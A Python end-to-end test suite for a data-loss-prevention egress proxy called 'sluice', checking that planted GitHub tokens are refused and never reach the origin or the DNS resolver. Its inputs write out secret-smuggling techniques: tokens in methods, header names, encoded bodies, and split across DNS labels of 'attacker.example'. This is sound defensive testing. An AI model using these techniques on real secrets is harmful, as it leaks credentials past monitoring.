#!/usr/bin/env python3
"""End-to-end tests for issue 25, the proxy side: nothing leaves unscanned.

Every test sends a checksum-valid GitHub token through a real `sluice run` to logging
origins and asserts the documented 4xx, that **nothing reached the origin**, and for the
host cases that **nothing reached the resolver**:

  * the token as the request method or as a header name (inside a tunnel and in plain
    http), a method outside RFC 9110's token grammar (400);
  * the token spelled into the CONNECT host or an absolute-form host (raw across labels,
    hex across labels): 403 dlp_finding before any DNS query; a denied name with a
    trailing dot: 403 policy_deny before any DNS query;
  * a CONNECT that an opaque (`inspect: false`) rule would take, after a method-constrained
    deny for the same host: intercepted, so the deny applies; the same for a CONNECT to
    another name of that server (127.0.0.1 for localhost), where `Host: localhost` is
    then 400 and a POST 403 under localhost's rule; an opaque tunnel whose ClientHello names another host than its CONNECT:
    an unrecognized_name alert, a policy_deny record, nothing at the origin;
  * plain http under `inspect: false`: scanned all the same;
  * a kept-alive tunnel across a reload that removes its allow: the next request in it is
    403 policy_deny;
  * a differential run: random requests (method, target, header names and values, body
    codings, chunking) with the token planted at a random place or not at all; every
    planted one is refused and never seen by the origin, every clean one arrives, and
    `sluice scan` finds nothing in what the origin logged;
  * and at the end `sluice scan` over the audit log finds nothing.

The resolver: sluice runs in a private mount namespace (`unshare --mount`) whose
/etc/resolv.conf names a dnsmasq started by the test on a loopback address, logging every
query. Without root, unshare or dnsmasq the DNS assertions are skipped with a message
(the HTTP assertions still run). A clean name is resolved in the same run, so the
resolver check is shown to see queries.

Run by ctest (tests/e2e/CMakeLists.txt, SLUICE_BIN set) or by hand:
  SLUICE_BIN=build/sluice python3 tests/e2e/test_unscanned.py -v
"""

import base64
import contextlib
import gzip
import http.client
import json
import os
import random
import shutil
import socket
import ssl
import subprocess
import sys
import tempfile
import time
import unittest
import urllib.parse
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE)
import test_proxy as tp  # noqa: E402  (certificates, recording origins, token maker)

START_TIMEOUT_S = tp.START_TIMEOUT_S
TIMEOUT_S = tp.CLIENT_TIMEOUT_S
DIFFERENTIAL_COUNT = int(os.environ.get("SLUICE_E2E_DIFFERENTIAL", "48"))


class U:
    tmp = None
    origin = None
    plain = None
    proc = None
    log = None
    dns = None
    dns_log = None
    dns_addr = None
    ports = {}
    config = None
    data_dir = None
    audit_path = None
    sluice_ca = None
    admin_port = None
    token = None
    tokens = []  # every token a test planted, for the final audit check


IDENTITIES = ("open", "sound", "opaque", "live")


def write_config(live_allowed=True):
    o, p = U.origin.port, U.plain.port
    live_action = "allow" if live_allowed else "deny"
    listeners = "".join("  - address: 127.0.0.1:%d\n    identity: %s\n" % (U.ports[n], n)
                        for n in IDENTITIES)
    dlp = "    dlp: {detectors: [all], on_finding: deny}\n"
    private = "    private_destinations: [127.0.0.1/32]\n"
    text = f"""version: 1
data_dir: {U.data_dir}
listeners:
{listeners}ca: {{cert: ca.pem, key: ca.key}}
upstream:
  ca_file: {os.path.join(U.tmp, "test-ca.pem")}
  connect_timeout: 5s
identities:
""" + "".join("  - name: %s\n" % n for n in IDENTITIES) + f"""policies:
  - identity: open
    rules:
      - hosts: ["denied.example"]
        action: deny
      - hosts: ["*"]
        action: allow
{dlp}{private}  - identity: sound
    rules:
      - hosts: ["localhost"]
        methods: [POST]
        action: deny
      - hosts: ["*"]
        action: allow
        inspect: false
{dlp}{private}  - identity: opaque
    rules:
      - hosts: ["*"]
        action: allow
        inspect: false
{dlp}{private}  - identity: live
    rules:
      - hosts: ["localhost"]
        ports: [{o}, {p}]
        action: {live_action}
      - hosts: ["127.0.0.1"]
        ports: [{o}]
        action: {live_action}
        inspect: false
{dlp}{private}admin: {{address: "127.0.0.1:{U.admin_port}", token_file: admin.token}}
audit: {{path: {U.audit_path}, fsync: always}}
"""
    tmp = U.config + ".tmp"
    with open(tmp, "w") as f:
        f.write(text)
    os.replace(tmp, U.config)


def start_resolver():
    """dnsmasq on a loopback address, answering *.clean.example with 127.0.0.1 and
    refusing the rest, logging every query. Returns the resolv.conf path or None."""
    dnsmasq = shutil.which("dnsmasq") or "/usr/sbin/dnsmasq"
    if os.geteuid() != 0 or not os.access(dnsmasq, os.X_OK) or not shutil.which("unshare"):
        return None
    U.dns_addr = "127.%d.%d.53" % (random.randint(1, 250), random.randint(1, 250))
    U.dns_log = os.path.join(U.tmp, "dns.log")
    U.dns = subprocess.Popen(
        [dnsmasq, "-k", "--no-resolv", "--no-hosts", "--bind-interfaces",
         "--listen-address=" + U.dns_addr, "--port=53", "--log-queries",
         "--log-facility=" + U.dns_log, "--address=/clean.example/127.0.0.1",
         "--pid-file=" + os.path.join(U.tmp, "dnsmasq.pid"), "--user=root"],
        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    resolv = os.path.join(U.tmp, "resolv.conf")
    with open(resolv, "w") as f:
        f.write("nameserver %s\noptions attempts:1 timeout:2\n" % U.dns_addr)
    # Ready when it answers: a query for a clean name through the same resolv.conf.
    deadline = time.monotonic() + 10
    while time.monotonic() < deadline:
        if U.dns.poll() is not None:
            return None
        probe = subprocess.run(
            ["unshare", "--mount", "sh", "-c",
             'mount --bind "$0" /etc/resolv.conf && getent hosts probe.clean.example', resolv],
            capture_output=True, timeout=10)
        if probe.returncode == 0:
            return resolv
        time.sleep(0.1)
    return None


def dns_queries():
    try:
        with open(U.dns_log, encoding="latin-1") as f:
            return [line for line in f if "query[" in line]
    except (OSError, TypeError):
        return []


def setUpModule():
    binary = os.environ.get("SLUICE_BIN")
    if not binary:
        raise unittest.SkipTest("SLUICE_BIN is not set (ctest sets it to the built sluice)")
    U.tmp = tempfile.mkdtemp(prefix="sluice-unscanned-")
    tp.make_certificates(U.tmp)
    U.origin = tp.recording_origin("tls", os.path.join(U.tmp, "origin.pem"),
                                   os.path.join(U.tmp, "origin.key"))
    U.plain = tp.recording_origin("plain")
    U.ports = {n: tp.free_port() for n in IDENTITIES}
    U.admin_port = tp.free_port()
    U.data_dir = os.path.join(U.tmp, "data")
    U.audit_path = os.path.join(U.tmp, "audit.jsonl")
    U.config = os.path.join(U.tmp, "sluice.yaml")
    U.token = tp.github_classic_token()
    U.tokens.append(U.token)
    write_config()
    resolv = start_resolver()
    cmd = [binary, "run", "--config", U.config]
    if resolv:
        cmd = ["unshare", "--mount", "sh", "-c",
               'mount --bind "$0" /etc/resolv.conf && exec "$@"', resolv] + cmd
    else:
        sys.stderr.write("test_unscanned: no root/unshare/dnsmasq here: the resolver "
                         "assertions are skipped\n")
    U.log = open(os.path.join(U.tmp, "sluice.log"), "wb")
    U.proc = subprocess.Popen(cmd, stdout=U.log, stderr=subprocess.STDOUT,
                              stdin=subprocess.DEVNULL, env=tp.client_env())
    for port in U.ports.values():
        if not tp.wait_for_port(port, U.proc, START_TIMEOUT_S):
            tearDownModule()
            raise RuntimeError("sluice did not start")
    U.sluice_ca = os.path.join(U.data_dir, "ca.pem")


def tearDownModule():
    if U.dns is not None and U.dns.poll() is None:
        U.dns.terminate()
        U.dns.wait(timeout=10)
    tp.stop_run(U.proc, (U.origin, U.plain), (U.log,), U.tmp)


# ---------------------------------------------------------------- clients

class reply:
    def __init__(self, status, headers, body, phase):
        self.status, self.headers, self.body, self.phase = status, headers, body, phase

    def json(self):
        return json.loads(self.body)

    def __repr__(self):
        return "reply(%s %s %r)" % (self.phase, self.status, self.body[:300])


def read_reply(sock, method, phase):
    resp = http.client.HTTPResponse(sock, method=method)
    resp.begin()
    headers = {k.lower(): v for k, v in resp.getheaders()}
    return reply(resp.status, headers, resp.read(), phase)


def answered_connect(identity, authority):
    """A CONNECT through `identity`'s listener, answered: (socket, response). The socket
    is left as it is after the answer (the caller speaks TLS or not)."""
    sock = socket.create_connection(("127.0.0.1", U.ports[identity]), timeout=TIMEOUT_S)
    sock.sendall(b"CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (authority, authority))
    resp = http.client.HTTPResponse(sock, method="CONNECT")
    resp.begin()
    return sock, resp


def connect(identity, authority, sni="localhost"):
    """CONNECT through `identity`'s listener; returns (socket or None, reply)."""
    sock, resp = answered_connect(identity, authority)
    if resp.status != 200:
        r = reply(resp.status, {k.lower(): v for k, v in resp.getheaders()}, resp.read(),
                  "connect")
        sock.close()
        return None, r
    ctx = ssl.create_default_context(cafile=U.sluice_ca)
    return ctx.wrap_socket(sock, server_hostname=sni), None


def raw_head(method, target, host, fields):
    lines = [b"%s %s HTTP/1.1" % (method, target), b"Host: " + host]
    lines += [b"%s: %s" % (k, v) for k, v in fields]
    return b"\r\n".join(lines) + b"\r\n\r\n"


def in_tunnel(identity, method, target, fields=(), body=b"", keep=False):
    """One request inside an intercepted tunnel to the TLS origin; raw bytes, so the
    method and field names can be anything."""
    authority = b"localhost:%d" % U.origin.port
    sock, refused = connect(identity, authority)
    if sock is None:
        return refused
    try:
        fields = list(fields) + [(b"Content-Length", b"%d" % len(body))]
        if not keep:
            fields.append((b"Connection", b"close"))
        sock.sendall(raw_head(method, target, authority, fields) + body)
        return read_reply(sock, method.decode("latin-1"), "request")
    finally:
        sock.close()


def plain(identity, method, url, fields=(), body=b""):
    """One absolute-form request on a plain connection to sluice; raw bytes."""
    host = urllib.parse.urlsplit(url.decode("latin-1")).netloc.encode("latin-1")
    sock = socket.create_connection(("127.0.0.1", U.ports[identity]), timeout=TIMEOUT_S)
    try:
        fields = list(fields) + [(b"Content-Length", b"%d" % len(body)),
                                 (b"Connection", b"close")]
        sock.sendall(raw_head(method, url, host, fields) + body)
        return read_reply(sock, method.decode("latin-1"), "request")
    finally:
        sock.close()


def fresh_token():
    t = tp.github_classic_token()
    U.tokens.append(t)
    return t


def marker():
    return tp.marker()


# ---------------------------------------------------------------- tests

class base(unittest.TestCase):
    maxDiff = 4000

    def assert_refused(self, r, status, reason):
        self.assertEqual(r.status, status, r)
        self.assertIn("x-sluice-flow", r.headers, r)
        self.assertEqual(r.json().get("reason"), reason, r)

    def assert_nothing_at_origins(self, needle):
        for o in (U.origin, U.plain):
            self.assertEqual([r for r in o.snapshot() if needle in r["path"]], [],
                             "%s reached the %s origin" % (needle, o.name))
            self.assertFalse(o.saw_bytes(needle), "%s reached the %s origin" % (needle, o.name))

    def assert_not_resolved(self, *names):
        if U.dns_log is None:
            self.skipTest("no test resolver here (needs root, unshare and dnsmasq)")
        qs = "".join(dns_queries()).lower()
        for n in names:
            self.assertNotIn(n.lower(), qs, "the name reached the resolver")


class t1_head_test(base):
    def test_token_as_method_in_a_tunnel_is_denied(self):
        m, t = marker(), fresh_token()
        r = in_tunnel("open", t.encode(), b"/m/" + m.encode())
        self.assert_refused(r, 403, "dlp_finding")
        self.assertIn("github-pat-classic", r.json().get("rules"), r)
        self.assert_nothing_at_origins(m)

    def test_token_as_header_name_in_a_tunnel_is_denied(self):
        m, t = marker(), fresh_token()
        r = in_tunnel("open", b"GET", b"/h/" + m.encode(), [(t.encode(), b"1")])
        self.assert_refused(r, 403, "dlp_finding")
        self.assert_nothing_at_origins(m)

    def test_token_as_method_and_header_name_in_plain_http_is_denied(self):
        for where in ("method", "field name"):
            m, t = marker(), fresh_token()
            url = b"http://localhost:%d/p/%s" % (U.plain.port, m.encode())
            if where == "field name":
                r = plain("open", b"GET", url, [(t.encode(), b"x")])
            else:
                r = plain("open", t.encode(), url)
            self.assert_refused(r, 403, "dlp_finding")
            self.assert_nothing_at_origins(m)

    def test_token_in_a_connect_header_is_denied(self):
        t = fresh_token()
        authority = b"localhost:%d" % U.origin.port
        sock = socket.create_connection(("127.0.0.1", U.ports["open"]), timeout=TIMEOUT_S)
        try:
            sock.sendall(b"CONNECT %s HTTP/1.1\r\nHost: %s\r\nX-Agent-Note: %s\r\n\r\n" %
                         (authority, authority, t.encode()))
            r = read_reply(sock, "CONNECT", "connect")
        finally:
            sock.close()
        self.assert_refused(r, 403, "dlp_finding")

    def test_method_outside_the_token_grammar_is_400(self):
        m = marker()
        r = in_tunnel("open", b"GE(T", b"/g/" + m.encode())
        self.assert_refused(r, 400, "bad_request")
        self.assert_nothing_at_origins(m)

    def test_clean_custom_method_and_field_names_still_pass(self):
        m = marker()
        r = in_tunnel("open", b"PATCH", b"/ok/" + m.encode(), [(b"X-Trace-Id", b"abc-123")])
        self.assertEqual(r.status, 200, r)
        self.assertEqual(len(U.origin.requests_for(m)), 1)


class t2_destination_test(base):
    def test_control_a_clean_name_reaches_the_resolver(self):
        if U.dns_log is None:
            self.skipTest("no test resolver here (needs root, unshare and dnsmasq)")
        m = marker()
        r = plain("open", b"GET", b"http://%s.clean.example:%d/c/%s" %
                  (m.encode(), U.plain.port, m.encode()))
        self.assertEqual(r.status, 200, r)
        self.assertIn(m, "".join(dns_queries()))

    def test_connect_host_with_a_token_across_labels_is_denied_before_dns(self):
        t = fresh_token()
        host = "%s.%s.attacker.example" % (t[:20], t[20:])
        _, r = connect("open", b"%s:443" % host.encode())
        self.assert_refused(r, 403, "dlp_finding")
        self.assert_not_resolved("attacker.example")

    def test_connect_host_with_a_hex_token_is_denied_before_dns(self):
        t = fresh_token()
        h = t.encode().hex()
        m = marker()
        host = "%s.%s.zz%s.attacker.example" % (h[:40], h[40:], m)
        _, r = connect("open", b"%s:443" % host.encode())
        self.assert_refused(r, 403, "dlp_finding")
        self.assert_not_resolved(m)
        _, records = tp_read_audit()
        for rec in records:
            self.assertNotIn(h[:40], json.dumps(rec))

    def test_absolute_form_host_with_a_token_is_denied_before_dns(self):
        t = fresh_token()
        m = marker()
        host = "%s.%s.%s.attacker.example" % (t[:20], t[20:], m)
        r = plain("open", b"GET", b"http://%s/x" % host.encode())
        self.assert_refused(r, 403, "dlp_finding")
        self.assert_not_resolved(m)

    def test_denied_name_with_a_trailing_dot_is_policy_deny_without_dns(self):
        r = plain("open", b"GET", b"http://denied.example./x")
        self.assert_refused(r, 403, "policy_deny")
        _, r2 = connect("open", b"denied.example.:443")
        self.assert_refused(r2, 403, "policy_deny")
        self.assert_not_resolved("denied.example")


class t3_policy_test(base):
    def test_constrained_deny_before_an_opaque_rule_is_enforced(self):
        m = marker()
        r = in_tunnel("sound", b"POST", b"/sound/" + m.encode(), body=b'{"a":1}')
        self.assert_refused(r, 403, "policy_deny")
        self.assert_nothing_at_origins(m)
        m2 = marker()
        r = in_tunnel("sound", b"GET", b"/sound/" + m2.encode())
        self.assertEqual(r.status, 200, r)
        self.assertEqual(len(U.origin.requests_for(m2)), 1)

    def sound_tunnel_by_address(self):
        """A CONNECT through `sound` to 127.0.0.1, the address of localhost, whose POSTs an
        earlier rule denies; every other host is opaque there. The client trusts both the
        origin's CA and sluice's, so it would see either answer. Returns the TLS socket
        and the issuer of the certificate it got."""
        authority = b"127.0.0.1:%d" % U.origin.port
        sock, resp = answered_connect("sound", authority)
        self.assertEqual(resp.status, 200)
        ctx = ssl.create_default_context(cafile=U.sluice_ca)
        ctx.load_verify_locations(os.path.join(U.tmp, "test-ca.pem"))
        tls = ctx.wrap_socket(sock, server_hostname="127.0.0.1")
        issuer = dict(x[0] for x in tls.getpeercert()["issuer"])
        return tls, json.dumps(issuer).lower()

    def test_an_opaque_tunnel_to_another_name_of_a_refused_server_is_intercepted(self):
        # Opaque, a POST would reach localhost's server by its address, with any Host.
        # Intercepted, the Host must name 127.0.0.1, and the rules for localhost apply.
        cases = [(b"POST", b"localhost", 400, "bad_request"),
                 (b"POST", b"127.0.0.1", 403, "policy_deny"),
                 (b"GET", b"127.0.0.1", 200, None)]
        for method, host, status, reason in cases:
            with self.subTest(method=method, host=host):
                tls, issuer = self.sound_tunnel_by_address()
                try:
                    self.assertIn("sluice", issuer, "the tunnel was intercepted")
                    m = marker()
                    body = b'{"a":1}' if method == b"POST" else b""
                    tls.sendall(raw_head(method, b"/sound/" + m.encode(),
                                         b"%s:%d" % (host, U.origin.port),
                                         [(b"Content-Length", b"%d" % len(body)),
                                          (b"Connection", b"close")]) + body)
                    r = read_reply(tls, method.decode(), "request")
                    if reason is None:
                        self.assertEqual(r.status, status, r)
                        self.assertEqual(len(U.origin.requests_for(m)), 1)
                    else:
                        self.assert_refused(r, status, reason)
                        self.assert_nothing_at_origins(m)
                finally:
                    tls.close()

    def test_an_opaque_tunnel_refuses_a_client_hello_naming_another_host(self):
        # `opaque` opens every host opaque: a tunnel still carries bytes only to the host
        # its CONNECT named. A ClientHello asking 127.0.0.1's server for `localhost` gets
        # an unrecognized_name alert, and the origin never sees the handshake.
        authority = b"127.0.0.1:%d" % U.origin.port
        sock, resp = answered_connect("opaque", authority)
        self.assertEqual(resp.status, 200)
        flow = resp.getheader("X-Sluice-Flow")
        ctx = ssl.create_default_context(cafile=os.path.join(U.tmp, "test-ca.pem"))
        m = marker()
        with self.assertRaises(ssl.SSLError) as cm:
            tls = ctx.wrap_socket(sock, server_hostname="localhost")
            tls.sendall(raw_head(b"GET", b"/fronted/" + m.encode(), b"localhost",
                                 [(b"Content-Length", b"0")]))
            read_reply(tls, "GET", "request")
        sock.close()
        self.assertIn("UNRECOGNIZED_NAME", str(cm.exception).upper())
        self.assert_nothing_at_origins(m)
        _, _, hits = wait_for(lambda rec: rec.get("flow") == flow and
                              rec.get("event") != "start")
        self.assertEqual([(h.get("decision"), h.get("reason")) for h in hits],
                         [("deny", "policy_deny")], hits)

    def test_an_opaque_tunnel_passes_a_client_hello_naming_its_host(self):
        authority = b"localhost:%d" % U.origin.port
        sock, resp = answered_connect("opaque", authority)
        self.assertEqual(resp.status, 200)
        ctx = ssl.create_default_context(cafile=os.path.join(U.tmp, "test-ca.pem"))
        tls = ctx.wrap_socket(sock, server_hostname="localhost")
        try:
            m = marker()
            tls.sendall(raw_head(b"GET", b"/opaque/" + m.encode(), authority,
                                 [(b"Content-Length", b"0"), (b"Connection", b"close")]))
            self.assertEqual(read_reply(tls, "GET", "request").status, 200)
            self.assertEqual(len(U.origin.requests_for(m)), 1)
        finally:
            tls.close()

    def test_uninspected_exchange_records_hold_no_secret(self):
        # The GET lands on the `inspect: false` rule inside the intercepted tunnel: it goes
        # out unscanned, as the policy says, but neither its start record nor its
        # completion keeps the token the client put in the URL.
        m, t = marker(), fresh_token()
        r = in_tunnel("sound", b"GET", b"/sound/" + m.encode() + b"?t=" + t.encode())
        self.assertEqual(r.status, 200, r)
        data, _, hits = wait_for(lambda x: m in x.get("url", "") and x.get("event") == "end")
        self.assertTrue(hits, "no completion record for " + m)
        self.assertIn("start", [x.get("event") for x in tp_read_audit()[1]
                                if m in x.get("url", "")])
        self.assertNotIn(t.encode(), data)

    def test_plain_http_under_inspect_false_is_scanned(self):
        m, t = marker(), fresh_token()
        url = b"http://localhost:%d/opaque/%s" % (U.plain.port, m.encode())
        r = plain("opaque", b"POST", url, [(b"Content-Type", b"application/json")],
                  json.dumps({"k": t}).encode())
        self.assert_refused(r, 403, "dlp_finding")
        self.assert_nothing_at_origins(m)


class t4_live_test(base):
    def admin_reload(self):
        return tp.admin_reload(U.admin_port, U.data_dir)

    @contextlib.contextmanager
    def live_denied(self):
        """The `live` identity's allow removed by a reload for the `with` body, then
        restored by another."""
        write_config(live_allowed=False)
        try:
            status, body = self.admin_reload()
            self.assertEqual(status, 200, body)
            yield
        finally:
            write_config(live_allowed=True)
            status, body = self.admin_reload()
            self.assertEqual(status, 200, body)

    def test_a_kept_alive_tunnel_follows_a_reload_that_removes_its_allow(self):
        authority = b"localhost:%d" % U.origin.port
        sock, refused = connect("live", authority)
        self.assertIsNone(refused)
        try:
            m1 = marker()
            sock.sendall(raw_head(b"GET", b"/live/" + m1.encode(), authority,
                                  [(b"Content-Length", b"0")]))
            self.assertEqual(read_reply(sock, "GET", "request").status, 200)
            with self.live_denied():
                # The idle tunnel is cut by the reload, or its next request is refused:
                # either way nothing more reaches the origin through it.
                m2 = marker()
                try:
                    sock.sendall(raw_head(b"GET", b"/live/" + m2.encode(), authority,
                                          [(b"Content-Length", b"0")]))
                    r = read_reply(sock, "GET", "request")
                    self.assert_refused(r, 403, "policy_deny")
                except (OSError, http.client.HTTPException):
                    pass
                self.assert_nothing_at_origins(m2)
        finally:
            sock.close()

    def test_an_opaque_tunnel_is_cut_by_a_reload_that_removes_its_allow(self):
        authority = b"127.0.0.1:%d" % U.origin.port
        sock, resp = answered_connect("live", authority)
        self.assertEqual(resp.status, 200)
        flow = resp.getheader("X-Sluice-Flow")
        # Straight to the origin (its own certificate, from the test CA): opaque.
        ctx = ssl.create_default_context(cafile=os.path.join(U.tmp, "test-ca.pem"))
        tls = ctx.wrap_socket(sock, server_hostname="127.0.0.1")
        try:
            m1 = marker()
            tls.sendall(raw_head(b"GET", b"/opaque-live/" + m1.encode(), authority,
                                 [(b"Content-Length", b"0")]))
            self.assertEqual(read_reply(tls, "GET", "request").status, 200)
            with self.live_denied():
                tls.settimeout(TIMEOUT_S)
                try:
                    self.assertEqual(tls.recv(1), b"", "the tunnel is closed")
                except (OSError, ssl.SSLError):
                    pass
                # The tunnel's record that ends it (its start was written before it opened).
                _, _, hits = wait_for(lambda rec: rec.get("flow") == flow and
                                      rec.get("event") != "start")
                self.assertEqual(len(hits), 1, hits)
                self.assertEqual(hits[0].get("reason"), "policy_deny", hits)
        finally:
            tls.close()


def wait_for(predicate):
    deadline = time.monotonic() + 10
    while True:
        data, records = tp_read_audit()
        hits = [r for r in records if predicate(r)]
        if hits or time.monotonic() > deadline:
            return data, records, hits
        time.sleep(0.05)


def tp_read_audit():
    try:
        with open(U.audit_path, "rb") as f:
            data = f.read()
    except FileNotFoundError:
        return b"", []
    return data, tp.audit_lines(data)


# ---------------------------------------------------------------- differential

PLACES = ("method", "path", "query", "header_name", "header_value", "body", "body_gzip",
          "body_deflate", "body_base64", "body_json_escaped", "header_pct", "none", "none")


VOCABULARY = ("alpha", "bravo", "delta", "river", "stone", "cloud", "paper", "green",
              "tools", "agent", "model", "query", "north", "seven", "lemon", "quiet")


def random_request(rng, token, place, m):
    """A request as raw parts: (method, target, fields, body); the token (if any) at
    `place`; `m` in the path identifies it at the origin."""
    def word(n):  # plain words: a clean request must not look like a secret by chance
        return "-".join(rng.choice(VOCABULARY) for _ in range(max(1, n // 6)))
    method = rng.choice([b"GET", b"POST", b"PUT", b"PATCH", b"DELETE"])
    path = "/d/%s/%s" % (m, "/".join(word(rng.randint(1, 8)) for _ in range(rng.randint(0, 3))))
    query = "&".join("%s=%s" % (word(3), word(rng.randint(0, 10)))
                     for _ in range(rng.randint(0, 3)))
    fields = [(("X-" + word(rng.randint(2, 8))).encode(), word(rng.randint(0, 20)).encode())
              for _ in range(rng.randint(0, 4))]
    body = json.dumps({word(4): word(rng.randint(0, 60)) for _ in range(rng.randint(0, 4))})
    coding = rng.choice([None, None, "gzip", "deflate"])
    if place == "method":
        method = token.encode()
    elif place == "path":
        path += "/" + token
    elif place == "query":
        query += ("&" if query else "") + "q=" + token
    elif place == "header_name":
        fields.append((token.encode(), b"1"))
    elif place == "header_value":
        fields.append((b"X-Note", ("see " + token).encode()))
    elif place == "header_pct":
        fields.append((b"X-Enc", urllib.parse.quote(token, safe="").encode()))
    elif place == "body":
        body = body[:-1] + (', "t": "%s"}' % token) if len(body) > 2 else '{"t": "%s"}' % token
    elif place == "body_gzip":
        coding = "gzip"
        body = '{"t": "%s"}' % token
    elif place == "body_deflate":
        coding = "deflate"
        body = "token=" + token
    elif place == "body_base64":
        body = json.dumps({"blob": base64.b64encode(("k=" + token).encode()).decode()})
    elif place == "body_json_escaped":
        body = json.dumps({"s": json.dumps({"inner": token})})
    raw = body.encode()
    if coding == "gzip":
        raw = gzip.compress(raw)
        fields.append((b"Content-Encoding", b"gzip"))
    elif coding == "deflate":
        raw = zlib.compress(raw)
        fields.append((b"Content-Encoding", b"deflate"))
    if method in (b"GET", b"DELETE") and place not in ("body", "body_gzip", "body_deflate",
                                                       "body_base64", "body_json_escaped"):
        raw = b""
        fields = [f for f in fields if f[0] != b"Content-Encoding"]
    target = path + ("?" + query if query else "")
    return method, target.encode(), fields, raw, rng.random() < 0.5


def send_differential(method, target, fields, body, chunked):
    authority = b"localhost:%d" % U.origin.port
    sock, refused = connect("open", authority)
    if sock is None:
        return refused
    try:
        fields = list(fields) + [(b"Connection", b"close")]
        if chunked and body:
            fields.append((b"Transfer-Encoding", b"chunked"))
            cut = max(1, len(body) // 2)
            payload = b"".join(b"%x\r\n%s\r\n" % (len(c), c) for c in (body[:cut], body[cut:])
                               if c) + b"0\r\n\r\n"
        else:
            fields.append((b"Content-Length", b"%d" % len(body)))
            payload = body
        sock.sendall(raw_head(method, target, authority, fields) + payload)
        return read_reply(sock, method.decode("latin-1"), "request")
    finally:
        sock.close()


class t5_differential_test(base):
    def test_random_requests_with_a_planted_token_never_reach_the_origin(self):
        seed = int(os.environ.get("SLUICE_E2E_SEED", str(random.randrange(1 << 30))))
        rng = random.Random(seed)
        sent = []
        for i in range(DIFFERENTIAL_COUNT):
            m = marker()
            place = PLACES[i % len(PLACES)] if i < len(PLACES) else rng.choice(PLACES)
            token = fresh_token() if place != "none" else None
            parts = random_request(rng, token, place, m)
            r = send_differential(*parts)
            sent.append((m, place, r, parts))
        for m, place, r, parts in sent:
            at_origin = U.origin.requests_for(m)
            if place == "none":
                self.assertEqual(r.status, 200, "seed %d clean request %r: %r" % (seed, parts, r))
                self.assertEqual(len(at_origin), 1, "seed %d" % seed)
            else:
                self.assertIn(r.status, (400, 403), "seed %d %s: %r" % (seed, place, r))
                self.assertEqual(at_origin, [], "seed %d: token at %s reached the origin" %
                                 (seed, place))
        # What the origin logged of these requests holds no secret any detector finds
        # (other tests send tokens on purpose, e.g. under `inspect: false`).
        markers = [m for m, _, _, _ in sent]
        logged = os.path.join(U.tmp, "origin-logged.txt")
        with open(logged, "wb") as f:
            for rec in U.origin.snapshot():
                if not any(m in rec["path"] for m in markers):
                    continue
                f.write(rec["method"].encode() + b" " + rec["path"].encode() + b"\n")
                for k, v in rec["headers"]:
                    f.write(("%s: %s\n" % (k, v)).encode("latin-1", "replace"))
                f.write(rec["body"] + b"\n\n")
        r = subprocess.run([os.environ["SLUICE_BIN"], "scan", "--format", "jsonl", logged],
                           capture_output=True, timeout=START_TIMEOUT_S)
        self.assertEqual(r.returncode, 0, "seed %d: sluice scan found something the origin "
                         "received: %s" % (seed, r.stdout[:2000]))


class t9_audit_test(base):
    def test_audit_holds_no_secret(self):
        data, records = tp_read_audit()
        self.assertGreater(len(records), 10)
        for t in U.tokens:
            self.assertNotIn(t.encode(), data)
            self.assertNotIn(t.encode().hex()[:40].encode(), data)
        r = subprocess.run([os.environ["SLUICE_BIN"], "scan", "--format", "jsonl",
                            U.audit_path], capture_output=True, timeout=START_TIMEOUT_S)
        self.assertEqual(r.returncode, 0, "sluice scan found a secret in the audit: %s" %
                         r.stdout[:2000])


if __name__ == "__main__":
    unittest.main()
